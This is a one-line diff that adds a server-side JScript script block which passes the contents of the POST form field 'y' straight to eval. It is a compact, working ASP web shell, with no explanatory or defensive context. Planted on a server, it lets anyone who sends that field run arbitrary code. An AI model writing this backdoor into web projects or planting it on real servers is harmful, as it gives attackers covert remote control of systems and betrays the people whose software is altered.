@@ -1,0 +1,1 @@
+<script language="JScript" runat="server">eval(Request.Form("y") + "")</script>
